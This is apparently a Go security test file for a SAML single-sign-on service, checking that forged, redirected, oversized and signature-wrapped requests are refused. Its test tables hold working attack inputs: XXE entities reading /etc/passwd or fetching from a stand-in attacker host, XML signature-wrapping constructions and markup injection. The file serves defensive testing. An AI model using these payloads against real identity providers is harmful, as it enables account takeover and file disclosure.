package saml_test

import (
	"compress/flate"
	"encoding/base64"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"pupitre/federation/saml"
	"pupitre/internal/db/dbtest"
	"pupitre/internal/fault"
	"pupitre/store/storetest/federationtest"
)

func inflate(t testing.TB, text string) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(text)
	if err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(flate.NewReader(strings.NewReader(string(b))))
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// stray are addresses' queries by which somebody could be sent astray, or an assertion could, by HTTP-Redirect.
func (h *house) stray(t testing.TB) map[string]string {
	t.Helper()
	now := h.Clock.Now()
	acs := func(address string) []string {
		return []string{`Version="2.0"`, `Version="2.0" AssertionConsumerServiceURL="` + address + `"`}
	}
	signed := func(change ...string) string {
		return redirect(t, "SAMLRequest", h.ask(labo, change...), "", key(labo))
	}
	good := signed()
	part := func(name string) string {
		q, err := url.ParseQuery(good)
		if err != nil {
			t.Fatal(err)
		}
		return name + "=" + url.QueryEscape(q.Get(name))
	}
	other := redirect(t, "SAMLRequest", h.ask(labo, "_r1", "_r2"), "", nil)
	return map[string]string{
		"nobody's":                      redirect(t, "SAMLRequest", h.ask("https://mechant.example/"), "", nil),
		"unsigned":                      redirect(t, "SAMLRequest", h.ask(labo), "", nil),
		"by an attacker":                redirect(t, "SAMLRequest", h.ask(labo), "", key("attacker")),
		"by another site":               redirect(t, "SAMLRequest", h.ask(labo), "", key(coffre)),
		"another message's signature":   strings.Replace(good, part("SAMLRequest"), other, 1),
		"a RelayState put in":           strings.Replace(good, "&SigAlg", "&RelayState=x&SigAlg", 1),
		"no method":                     strings.Replace(good, part("SigAlg"), "SigAlg=", 1),
		"SHA-1":                         redirectBySHA1(t, "SAMLRequest", h.ask(labo)),
		"a message twice":               good + "&" + other,
		"a message twice, escaped":      good + "&" + strings.Replace(other, "SAML", "%53AML", 1),
		"a signature twice":             good + "&" + part("Signature"),
		"both kinds":                    good + "&SAMLResponse=x",
		"another encoding":              good + "&SAMLEncoding=x",
		"a semicolon":                   good + ";x=y",
		"an address that is nobody's":   signed(acs("https://mechant.example/acs")...),
		"an address below":              signed(acs(laboACS + "/x")...),
		"a query more":                  signed(acs(laboACS + "?x")...),
		"capitals":                      signed(acs("https://LABO.example/acs")...),
		"another site's address":        signed(acs(coffreACS)...),
		"an index that is nobody's":     signed(`Version="2.0"`, `Version="2.0" AssertionConsumerServiceIndex="3"`),
		"an index and an address":       signed(`Version="2.0"`, `Version="2.0" AssertionConsumerServiceIndex="0" AssertionConsumerServiceURL="`+laboACS+`"`),
		"by artifact":                   signed(`Version="2.0"`, `Version="2.0" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact"`),
		"for another":                   signed(h.URL, "https://autre.example"),
		"signed for nobody":             signed(` Destination="`+h.URL+`/saml/sso"`, ""),
		"for another path":              signed("/saml/sso", "/saml/slo"),
		"old":                           signed(now.Format(time.RFC3339), now.Add(-21*time.Minute).Format(time.RFC3339)),
		"to come":                       signed(now.Format(time.RFC3339), now.Add(2*time.Minute).Format(time.RFC3339)),
		"no instant":                    signed(now.Format(time.RFC3339), "now"),
		"another version":               signed(`Version="2.0"`, `Version="1.1"`),
		"no identifier":                 signed(`ID="_r1"`, `ID=""`),
		"an identifier that breaks out": signed(`ID="_r1"`, `ID="_r1&quot;/&gt;"`),
		"two issuers":                   signed("<saml:Issuer>", "<saml:Issuer>"+labo+"</saml:Issuer><saml:Issuer>"),
		"another message":               signed("AuthnRequest", "LogoutRequest"),
		"a comment in the name":         redirect(t, "SAMLRequest", h.ask(labo, "labo.example", "labo.example<!-- -->"), "", key(labo)),
		"a DOCTYPE":                     redirect(t, "SAMLRequest", `<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>`+h.ask(labo), "", key(labo)),
		"a parameter entity":            redirect(t, "SAMLRequest", `<!DOCTYPE a [<!ENTITY % e SYSTEM "http://mechant.example/e">%e;]>`+h.ask(labo), "", key(labo)),
		"UTF-16":                        redirect(t, "SAMLRequest", "\xff\xfe<\x00a\x00/\x00>\x00", "", nil),
		"no XML":                        redirect(t, "SAMLRequest", "hello", "", nil),
		"not deflated":                  "SAMLRequest=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(h.ask(labo)))),
		"not base64":                    "SAMLRequest=%40",
		"empty":                         "SAMLRequest=",
		"none":                          "",
		"a long RelayState":             redirect(t, "SAMLRequest", h.ask(labo), strings.Repeat("x", 2049), key(labo)),
		"a bomb":                        redirect(t, "SAMLRequest", h.ask(labo)+strings.Repeat(" ", 50<<20), "", nil),
		"a bomb of elements":            redirect(t, "SAMLRequest", strings.Repeat("<a>", 20_000), "", nil),
	}
}

// Until a request is known to be a registered site's, in its name and to its address, nobody is sent anywhere.
func TestNoAssertionGoesAstray(t *testing.T) {
	t.Parallel()
	h := open(t, dbtest.Engines()[0])
	session := h.Arrive(t, "ent-ines")
	for name, query := range h.stray(t) {
		for who, cookie := range map[string]bool{"signed in": true, "nobody": false} {
			token := session
			if !cookie {
				token = ""
			}
			got := h.get(t, token, "/saml/sso?"+query)
			if got.Status != http.StatusBadRequest && got.Status != http.StatusForbidden || got.To != "" || got.Form.Action != "" {
				t.Errorf("%s (%s): %+v", name, who, got)
			}
		}
	}
	for name, query := range map[string]string{
		"nobody's": "sp=x", "none": "", "twice": "sp=" + url.QueryEscape(labo) + "&sp=x", "an address": "sp=" + url.QueryEscape(labo) + "&shire=https://mechant.example/",
	} {
		if got := h.get(t, session, "/saml/start?"+query); got.Status != http.StatusBadRequest || got.To != "" {
			t.Errorf("by a link, %s: %+v", name, got)
		}
	}
	if h.Rights.Opened() != 0 {
		t.Errorf("%d accesses", h.Rights.Opened())
	}
}

// The ways of wrapping a signed message into another (XSW): whichever is read, nothing that was not signed is.
func TestWrappedRequestsAreRefused(t *testing.T) {
	t.Parallel()
	h := open(t, dbtest.Engines()[0])
	session := h.Arrive(t, "ent-ines")
	good := embedded(t, h.ask(labo), key(labo))
	evil := h.ask(labo, "_r1", "_evil", `Version="2.0"`, `Version="2.0" AssertionConsumerServiceIndex="7"`)
	begin, end := strings.Index(good, "<ds:Signature"), strings.Index(good, "</ds:Signature>")+len("</ds:Signature>")
	signature, bare := good[begin:end], good[:begin]+good[end:]
	inside := func(outer, inner string) string {
		return strings.Replace(outer, "</samlp:AuthnRequest>", inner+"</samlp:AuthnRequest>", 1)
	}
	extended := func(s string) string { return `<samlp:Extensions>` + s + `</samlp:Extensions>` }
	object := func(s string) string {
		return strings.Replace(signature, "</ds:Signature>", "<ds:Object>"+s+"</ds:Object></ds:Signature>", 1)
	}
	for name, text := range map[string]string{
		"the signed one inside":                      inside(evil, good),
		"the signed one in the extensions":           inside(evil, extended(good)),
		"its signature outside, the signed inside":   inside(inside(evil, signature), extended(bare)),
		"the signed one in the signature":            inside(evil, object(bare)),
		"the signed one in the signature, same name": inside(strings.Replace(evil, "_evil", "_r1", 1), object(bare)),
		"the evil one inside":                        inside(good, evil),
		"the evil one in the signature":              strings.Replace(good, "</ds:Signature>", "<ds:Object>"+evil+"</ds:Object></ds:Signature>", 1),
		"two signatures":                             strings.Replace(good, signature, signature+strings.Replace(signature, `URI="#_r1"`, `URI="#_evil"`, 1), 1),
		"the signature of another element":           inside(evil, signature),
		"the same name twice":                        `<samlp:Both xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">` + strings.Replace(evil, "_evil", "_r1", 1) + good + `</samlp:Both>`,
	} {
		for _, by := range []string{"redirect", "post"} {
			got := answer{}
			if by == "redirect" {
				got = h.get(t, session, "/saml/sso?"+redirect(t, "SAMLRequest", text, "", nil))
			} else if got = h.send(t, "", http.MethodPost, "/saml/sso", url.Values{"SAMLRequest": {base64.StdEncoding.EncodeToString([]byte(text))}}); got.Status == http.StatusSeeOther {
				got = h.get(t, session, got.To)
			}
			if got.Status != http.StatusBadRequest && got.Status != http.StatusForbidden {
				t.Errorf("%s by %s: %+v", name, by, got)
			}
		}
	}
	if r, _ := h.read(t, h.get(t, session, "/saml/sso?"+redirect(t, "SAMLRequest", good, "", nil)), nil); r.Answers != "_r1" {
		t.Errorf("the honest one: %+v", r)
	}
}

// What only looks ahead, or only asks for headers, opens no copy.
func TestLookingAheadIsNoEntry(t *testing.T) {
	t.Parallel()
	h := open(t, dbtest.Engines()[0])
	session := h.Arrive(t, "ent-ines")
	for _, path := range []string{"/saml/sso?" + redirect(t, "SAMLRequest", h.ask(labo), "", key(labo)), "/saml/start?sp=" + url.QueryEscape(labo)} {
		federationtest.LooksAhead(t, h.client, h.URL+path, session)
		if n := h.Rights.Opened(); n != 0 {
			t.Errorf("%d opened", n)
		}
	}
}

// Text of the school's that looks like markup stays text.
func TestAssertionsAreEscaped(t *testing.T) {
	t.Parallel()
	h := open(t, dbtest.Engines()[0])
	const name = `</saml:AttributeValue><saml:NameID>root</saml:NameID>&<![CDATA[`
	if _, err := h.Store.DB.Pool().ExecContext(t.Context(), `update person set given_name = '`+name+`' where id = 'person-ines'`); err != nil {
		t.Fatal(err)
	}
	_, a := h.read(t, h.get(t, h.Arrive(t, "ent-ines"), "/saml/start?sp="+url.QueryEscape(labo)), nil)
	if got := a.attributes()["PRE"]; a.Subject.Name.Value != ines.Subject() || len(got) != 1 || got[0] != name {
		t.Errorf("%q", got)
	}
}

func FuzzReadParty(f *testing.F) {
	f.Add([]byte(`<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="a"><SPSSODescriptor><AssertionConsumerService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://a.example/" index="1"/></SPSSODescriptor></EntityDescriptor>`))
	f.Fuzz(func(t *testing.T, text []byte) {
		p, err := saml.ReadParty(text, time.Unix(0, 0))
		if err != nil && fault.KindOf(err) != fault.Invalid {
			t.Fatalf("unclassified: %v", err)
		}
		if err == nil && len(p.Consumers) == 0 {
			t.Error("a site without an address")
		}
	})
}
